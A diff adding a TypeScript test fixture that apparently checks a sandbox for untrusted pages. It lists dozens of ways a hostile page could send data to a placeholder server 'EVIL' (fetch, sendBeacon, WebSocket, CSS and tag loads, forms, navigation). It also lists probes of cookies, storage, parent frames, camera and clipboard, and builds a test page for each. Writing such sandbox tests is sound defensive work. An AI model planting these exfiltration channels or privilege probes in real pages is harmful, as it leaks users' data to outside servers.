@@ -1,0 +1,161 @@
+/** Something that a hostile page tries. EVIL stands for a server that counts, x for the attempt's name. */
+export interface Attempt {
+  markup?: string;
+  /** The body of an async function; what it returns or throws is the outcome. */
+  script?: string;
+  /** Whether the test clicks #go, so that there is a user's gesture. */
+  click?: boolean;
+  /** Whether it would take its frame or the window elsewhere, which takes a moment to show. */
+  leaves?: boolean;
+}
+
+/** What would reach another server, were nothing in its way. */
+export const WAYS_OUT: Record<string, Attempt> = {
+  fetch: { script: "return (await fetch('EVIL/x')).status" },
+  'fetch without CORS': { script: "return (await fetch('EVIL/x', { mode: 'no-cors' })).type" },
+  'fetch that outlives the page': { script: "return fetch('EVIL/x', { keepalive: true })" },
+  XMLHttpRequest: {
+    script: `const request = new XMLHttpRequest();
+      request.open('GET', 'EVIL/x', false);
+      request.send();
+      return request.status;`,
+  },
+  WebSocket: {
+    script: `const socket = new WebSocket('EVIL/x'.replace('http', 'ws'));
+      return new Promise((done) => { socket.onerror = () => done('error'); });`,
+  },
+  EventSource: {
+    script: `const source = new EventSource('EVIL/x');
+      return new Promise((done) => { source.onerror = () => { source.close(); done('error'); }; });`,
+  },
+  sendBeacon: { script: "return navigator.sendBeacon('EVIL/x', 'data')" },
+  'an image': {
+    script: `const image = new Image();
+      image.src = 'EVIL/x';
+      return new Promise((done) => { image.onerror = () => done('error'); });`,
+  },
+  '<img srcset>': { markup: '<img srcset="EVIL/x 1x">' },
+  '<picture>': { markup: '<picture><source srcset="EVIL/x"><img></picture>' },
+  '<input type=image>': { markup: '<input type="image" src="EVIL/x">' },
+  '<video>': { markup: '<video src="EVIL/x" preload="auto"></video>' },
+  '<video poster>': { markup: '<video poster="EVIL/x"></video>' },
+  '<audio>': { markup: '<audio src="EVIL/x" preload="auto"></audio>' },
+  '<body background>': { markup: '<body background="EVIL/x">' },
+  'an SVG image': { markup: '<svg><image href="EVIL/x" width="9" height="9"/></svg>' },
+  '<link rel=stylesheet>': { markup: '<link rel="stylesheet" href="EVIL/x">' },
+  '<link rel=preload>': { markup: '<link rel="preload" as="script" href="EVIL/x">' },
+  '<link rel=modulepreload>': { markup: '<link rel="modulepreload" href="EVIL/x">' },
+  '<link rel=prefetch>': { markup: '<link rel="prefetch" href="EVIL/x">' },
+  '<script src>': { markup: '<script src="EVIL/x"></script>' },
+  '<script type=module>': { markup: '<script type="module" src="EVIL/x"></script>' },
+  'import()': { script: "return import('EVIL/x')" },
+  'CSS url()': { markup: '<style>body { background: url(EVIL/x) }</style>' },
+  'CSS content': { markup: '<style>p::before { content: url(EVIL/x) }</style><p>x' },
+  'CSS cursor': { markup: '<style>* { cursor: url(EVIL/x), auto }</style><p>x' },
+  'CSS @import': { markup: '<style>@import url(EVIL/x);</style>' },
+  'a font': {
+    markup:
+      '<style>@font-face { font-family: f; src: url(EVIL/x) } p { font-family: f }</style><p>x',
+  },
+  'new FontFace': { script: "return new FontFace('f', 'url(EVIL/x)').load()" },
+  '<iframe>': { markup: '<iframe src="EVIL/x"></iframe>' },
+  'a frame within a frame': { markup: '<iframe srcdoc="<img src=EVIL/x>"></iframe>' },
+  '<object>': { markup: '<object data="EVIL/x"></object>' },
+  '<embed>': { markup: '<embed src="EVIL/x">' },
+  '<base>': { markup: '<base href="EVIL/"><img src="x">' },
+  'a worker that fetches': {
+    script: `const code = "fetch('EVIL/x').then(() => postMessage(1), () => postMessage(0))";
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
+  },
+  'a worker that imports': {
+    script: `const code = "try { importScripts('EVIL/x') } catch {} postMessage(0)";
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
+  },
+  'a form': {
+    markup: '<form action="EVIL/x"></form>',
+    script: "document.querySelector('form').submit()",
+    leaves: true,
+  },
+  'a form to the top': {
+    markup: '<form action="EVIL/x" target="_top"><button id="go">x</button></form>',
+    click: true,
+  },
+  'a form to a new window': {
+    markup: '<form action="EVIL/x" target="_blank"><button id="go">x</button></form>',
+    click: true,
+  },
+  'location, of itself': { script: "location = 'EVIL/x'", leaves: true },
+  'location, of the top': { script: "top.location = 'EVIL/x'", leaves: true },
+  'location, of the top, clicked': {
+    markup: '<button id="go" onclick="top.location = \'EVIL/x\'">x</button>',
+    click: true,
+  },
+  'a link': { markup: '<a id="go" href="EVIL/x">x</a>', click: true },
+  'a link to the top': { markup: '<a id="go" href="EVIL/x" target="_top">x</a>', click: true },
+  'a link to the parent': {
+    markup: '<a id="go" href="EVIL/x" target="_parent">x</a>',
+    click: true,
+  },
+  'a link to a new window': {
+    markup: '<a id="go" href="EVIL/x" target="_blank">x</a>',
+    click: true,
+  },
+  'a download': { markup: '<a id="go" href="EVIL/x" download>x</a>', click: true },
+  'a download that starts itself': {
+    markup: '<a href="EVIL/x" download>x</a>',
+    script: "document.querySelector('a').click()",
+    leaves: true,
+  },
+  'a ping': { markup: '<a id="go" href="#" ping="EVIL/x">x</a>', click: true },
+  'window.open': { script: "return window.open('EVIL/x')", leaves: true },
+  'window.open, clicked': {
+    markup: '<button id="go" onclick="window.open(\'EVIL/x\')">x</button>',
+    click: true,
+  },
+  'meta refresh': { markup: '<meta http-equiv="refresh" content="0; url=EVIL/x">', leaves: true },
+};
+
+/** What would lend it the site's own standing: each must throw or come back empty. */
+export const LIBERTIES: Record<string, string> = {
+  'document.cookie': "document.cookie = 'a=b'; return document.cookie",
+  localStorage: "localStorage.setItem('a', 'b'); return 'stored'",
+  sessionStorage: "sessionStorage.setItem('a', 'b'); return 'stored'",
+  indexedDB: `const open = indexedDB.open('a');
+    return new Promise((done, fail) => {
+      open.onsuccess = () => done('opened');
+      open.onerror = () => fail(open.error);
+    })`,
+  'the cache storage': "await caches.open('a'); return 'opened'",
+  'a service worker': "await navigator.serviceWorker.register('/s/w.js'); return 'registered'",
+  'the parent’s document': 'return parent.document.title',
+  'the top’s document': "return top.document.querySelector('a').href",
+  'the parent’s address': 'return parent.location.href',
+  'the frame element': "return frameElement ? 'found' : ''",
+  'the parent’s storage': "return parent.localStorage.getItem('a') ?? 'read'",
+  'an opener': "return opener ? 'found' : ''",
+  'its own origin': "return origin === 'null' ? '' : origin",
+  'the site’s own files': `return (await fetch(document.referrer || location.href)).status`,
+  camera: "await navigator.mediaDevices.getUserMedia({ video: true }); return 'filmed'",
+  position: `return new Promise((done, fail) =>
+    navigator.geolocation.getCurrentPosition(() => done('found'), fail))`,
+  'the clipboard': 'return "read " + (await navigator.clipboard.readText())',
+  'full screen': "await document.documentElement.requestFullscreen(); return 'full'",
+};
+
+/** A document that makes an attempt, asking for `/${name}`, and says in `outcome` what came of it. */
+export function attemptPage({ markup = '', script }: Attempt, evil: string, name: string): string {
+  const run = script
+    ? `(async () => { ${script} })().then(
+        (value) => { outcome = 'did ' + (value ?? '') },
+        (error) => { outcome = 'threw ' + error.name })`
+    : "outcome = 'loaded'";
+  return (
+    `<!doctype html><title>Attempt</title>${markup}` +
+    `<script>window.outcome = ''; addEventListener('load', () => { ${run} })</script>`
+  )
+    .replaceAll('EVIL/x', `EVIL/${name}`)
+    .replaceAll('<img src="x">', `<img src="${name}">`)
+    .replaceAll('EVIL', evil);
+}
